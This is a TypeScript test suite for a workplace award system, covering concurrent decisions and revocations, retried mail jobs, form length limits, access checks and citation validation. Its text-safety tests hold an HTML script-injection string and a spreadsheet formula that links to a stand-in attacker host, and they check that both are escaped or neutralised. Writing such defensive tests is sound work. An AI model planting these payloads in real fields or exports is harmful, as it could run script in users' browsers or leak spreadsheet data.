import { eq } from 'drizzle-orm';
import { beforeEach, describe, expect, it } from 'vitest';
import type { Person } from '#lib/accounts/policy.ts';
import { people as persons } from '#lib/accounts/tables.server.ts';
import * as announcements from '#lib/awards/announcements.server.ts';
import { Decide, Nominate, Open, Pick, Revoke } from '#lib/awards/forms.ts';
import * as publishing from '#lib/awards/publishing.server.ts';
import * as revocations from '#lib/awards/revocations.server.ts';
import * as rounds from '#lib/awards/rounds.server.ts';
import * as sheet from '#lib/awards/sheet.server.ts';
import { awardLog, awardWinners, nominations } from '#lib/awards/tables.server.ts';
import { csv } from '#lib/platform/csv.ts';
import { db, transaction } from '#lib/platform/database/index.ts';
import { NotFound } from '#lib/platform/errors.ts';
import * as jobs from '#lib/platform/jobs.server.ts';
import { jobs as jobTable } from '#lib/platform/tables.server.ts';
import { badges } from '#lib/recognition/tables.server.ts';
import {
	award,
	CITATION,
	decide,
	finishPath,
	MOMENT,
	nominate,
	once,
	open,
	shortlisted
} from '#tests/support/awards.ts';
import { freshStore } from '#tests/support/fresh.ts';
import * as mailbox from '#tests/support/mailbox.ts';
import { joins } from '#tests/support/play.ts';
import { handlers } from '../../src/jobs.server.ts';
import * as verify from '../../src/verify.server.ts';

const NOW = new Date('2026-11-18T09:00:00Z');
const HTML = '<img src=x onerror=alert(1)> was on the label & she read it out.';
const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"a present for her")';
const LONG = 'N'.repeat(10_000);

let people: Awaited<ReturnType<typeof freshStore>>['people'];
let units: Record<string, string>;
let round: string;
beforeEach(async () => {
	({ people, units } = await freshStore());
	await finishPath(people.eero);
	await finishPath(people.femke);
	round = await open(people.omar, units.Shoes!);
	mailbox.empty();
});

const count = async () => ({
	winners: await db().read.$count(awardWinners),
	badges: await db().read.$count(badges, eq(badges.kind, 'empathy-award')),
	entries: await db().read.$count(awardLog),
	jobs: await db().read.$count(jobTable)
});

describe('at the same moment', () => {
	it('two managers and a double click are one award, and one mail each', async () => {
		await shortlisted(people.omar, round);
		const { submission } = once();
		const all = await Promise.allSettled([
			decide(people.omar, round, [people.eero], { submission }, NOW),
			decide(people.omar, round, [people.eero], { submission }, NOW),
			decide(people.saga, round, [people.femke], {}, NOW)
		]);
		const refused = all.filter((result) => result.status === 'rejected');
		expect([1, 2]).toContain(refused.length); // both of his clicks, or hers
		for (const { reason } of refused) expect(reason).toMatchObject({ key: 'award_already_announced', status: 409 });
		expect(await count()).toEqual({ winners: 1, badges: 1, entries: 5, jobs: 12 });
		await jobs.drain(handlers);
		expect(mailbox.letters()).toHaveLength(12);
	});

	it('two managers revoke two awards, and the same one once', async () => {
		const id = await award(people.omar, round, [people.eero, people.femke], {}, NOW);
		const [eero, femke] = (await announcements.find(people.omar, id, NOW)).winners.map(({ winnerId }) => winnerId);
		const revoke = (by: Person, winnerId: string) =>
			revocations.revoke(by, winnerId, { reason: CITATION, ...once() }, NOW);
		const all = await Promise.allSettled([
			revoke(people.omar, eero!),
			revoke(people.saga, femke!),
			revoke(people.saga, eero!)
		]);
		const refused = all.filter((result) => result.status === 'rejected');
		expect(refused).toMatchObject([{ reason: { key: 'award_already_revoked', status: 409 } }]);
		expect(await count()).toMatchObject({ winners: 2, badges: 0, entries: 7 });
		expect(await verify.awards()).toMatchObject({ differences: 0 });
	});

	it('fifty nominations of fifty people all count', async () => {
		const crowd = [];
		for (let i = 0; i < 50; i++) crowd.push(await joins(`Hand${i}`, units.Trail!, people.omar, NOW));
		await Promise.all(crowd.map((person) => nominate(person, round, people.eero, NOW)));
		await shortlisted(people.omar, round);
		const { candidates, nominationCount } = await rounds.find(people.omar, round, NOW);
		const eero = candidates.find(({ who }) => who!.name === 'Eero Salo')!;
		expect([nominationCount, eero.evidence.nominations, eero.moments!.length]).toEqual([50, 50, 50]);
	});

	it('fifty nominations of one person are one', async () => {
		const others = Array.from({ length: 50 }, (_, i) => (i % 2 ? people.eero : people.femke));
		const all = await Promise.allSettled(others.map((nominee) => nominate(people.maya, round, nominee, NOW)));
		expect(all.filter(({ status }) => status === 'fulfilled')).toHaveLength(1);
		for (const result of all.filter((r) => r.status === 'rejected'))
			expect(result.reason).toMatchObject({ key: 'nomination_twice', status: 409 });
		expect(await db().read.$count(nominations)).toBe(1);
		expect(await db().read.$count(jobTable)).toBe(1);
	});
});

describe('sent again', () => {
	it('an announcement is nothing new', async () => {
		const announcementId = await award(people.omar, round, [people.eero]);
		const before = await count();
		for (let i = 0; i < 2; i++) await publishing.announce({ announcementId }, { id: 'again', attempt: 2 });
		await publishing.announce({ announcementId: crypto.randomUUID() }, { id: 'withdrawn', attempt: 1 });
		expect(await count()).toEqual(before);
	});

	it('a mail whose job was killed between the mail and its mark is the same mail', async () => {
		await award(people.omar, round, [people.eero]);
		const killed: typeof handlers = {
			...handlers,
			async 'mail-announcement'(payload, job) {
				await handlers['mail-announcement']!(payload, job);
				throw new Error('the power went');
			}
		};
		expect(await jobs.drain(killed)).toBe(12);
		const first = mailbox
			.letters()
			.map(({ id }) => id)
			.sort();
		const later = () => new Date(NOW.getTime() + 3_600_000);
		expect(await jobs.drain(handlers, later)).toBe(12);
		expect(
			mailbox
				.letters()
				.map(({ id }) => id)
				.sort()
		).toEqual(first);
		expect(new Set(first).size).toBe(12);
	});
});

describe('text', () => {
	it('with HTML in it is text: in a nomination’s mail, in an announcement’s, and on its page', async () => {
		await nominate(people.maya, round, people.eero, NOW, HTML);
		const id = await award(people.omar, round, [people.eero], { citation: HTML }, NOW);
		await jobs.drain(handlers);
		const mails = mailbox.letters();
		expect(mails).toHaveLength(13);
		for (const mail of mails) {
			expect(mail.text).toContain(HTML);
			expect(mail.html).not.toContain('<img');
			expect(mail.html).toContain('&lt;img src=x');
		}
		expect((await announcements.find(people.maya, id, NOW)).winners[0]!.citation).toBe(HTML); // Svelte escapes it
	});

	it('that a spreadsheet would compute does nothing in the export', async () => {
		await award(people.omar, round, [people.eero], { citation: FORMULA }, NOW);
		const { head, rows } = sheet.of(await announcements.all(people.maya, NOW), 'en', 'Europe/Helsinki');
		expect(rows[0]).toEqual(expect.arrayContaining(['Eero Salo', 'Everyday', 'Omar Haddad', '2026-11-18']));
		const file = csv(head, rows, 'en');
		expect(file).toContain(`"'=HYPERLINK(""http`);
		expect(file).not.toMatch(/(^|[,"])=HYPERLINK/m);
	});

	it('of ten thousand letters is refused by every form; a name as long breaks neither mail nor page', async () => {
		const nominee = people.eero.id;
		const forms = [
			Nominate.safeParse({ nominee, practice: 'G1', moment: LONG, ...once() }),
			Decide.safeParse({ outcome: 'award', winners: [nominee], [`citation-${nominee}`]: LONG, ...once() }),
			Decide.safeParse({ outcome: 'none', reason: LONG, ...once() }),
			Revoke.safeParse({ reason: LONG, ...once() }),
			Open.safeParse({ award: LONG, unitId: units.Shoes, period: '2026-11' }),
			Pick.safeParse({ letters: LONG, ...once() })
		];
		expect(forms.map(({ success }) => success)).toEqual(Array(6).fill(false));
		await transaction(async (tx) => void (await tx.update(persons).set({ name: LONG }).where(eq(persons.id, nominee))));
		const id = await award(people.omar, round, [people.eero], {}, NOW);
		await jobs.drain(handlers);
		expect(mailbox.letters()).toHaveLength(12);
		expect(mailbox.letters().every(({ subject }) => subject.length < 100)).toBe(true);
		expect((await announcements.find(people.maya, id, NOW)).winners).toMatchObject([{ name: LONG }]);
	});
});

describe('out of scope', () => {
	it('a nominee, a winner, a round and an announcement look like nothing', async () => {
		await finishPath(people.kaisa);
		const id = await award(
			people.omar,
			await open(people.omar, units.Shoes!, { period: '2026-10' }),
			[],
			{},
			NOW
		).catch((e) => e);
		expect(id).toMatchObject({ key: 'award_pick_winner' });
		await expect(nominate(people.maya, round, people.kaisa, NOW)).rejects.toThrow(NotFound);
		await expect(nominate(people.maya, round, { id: 'nobody' }, NOW)).rejects.toThrow(NotFound);
		await expect(nominate(people.maya, crypto.randomUUID(), people.eero, NOW)).rejects.toThrow(NotFound);
		await shortlisted(people.omar, round);
		await expect(decide(people.omar, round, [people.kaisa], {}, NOW)).rejects.toThrow(NotFound);
		await expect(decide(people.omar, round, [{ id: units.Trail! }], {}, NOW)).rejects.toThrow(NotFound);
		await expect(announcements.find(people.maya, crypto.randomUUID(), NOW)).rejects.toThrow(NotFound);
		expect((await count()).winners).toBe(0);
	});
});

describe('the form of a decision', () => {
	const [one, two] = [crypto.randomUUID(), crypto.randomUUID()];
	const form = { outcome: 'award', winners: [one, two], [`citation-${one}`]: CITATION, [`citation-${two}`]: MOMENT };

	it('has a citation for each winner, and an hour on the wall clock', () => {
		const parse = (more: object) => Decide.safeParse({ ...form, ...once(), ...more });
		expect(parse({ announceAt: '2026-11-30T17:00' }).data).toMatchObject({
			winners: [
				{ id: one, citation: CITATION },
				{ id: two, citation: MOMENT }
			],
			...{ announceAt: '2026-11-30T17:00', reason: null }
		});
		expect(parse({ announceAt: '' }).data!.announceAt).toBeUndefined();
		for (const announceAt of ['2026-02-31T10:00', '2026-11-30T17:00Z', 'soon', '2026-11-30'])
			expect(parse({ announceAt }).error!.issues[0]!.path).toEqual(['announceAt']);
	});

	it('says by which winner a citation is missing, and asks for a reason where nobody wins', () => {
		const problems = (raw: object) =>
			Decide.safeParse({ ...raw, ...once() }).error!.issues.map(({ path, message }) => [path[0], message]);
		expect(problems({ ...form, [`citation-${two}`]: 'Well done!' })).toEqual([
			[`citation-${two}`, 'award_citation_short']
		]);
		expect(problems({ outcome: 'award' })).toEqual([['winners', 'award_pick_winner']]);
		expect(problems({ outcome: 'none', reason: ' ' })).toEqual([['reason', 'award_citation_short']]);
	});
});
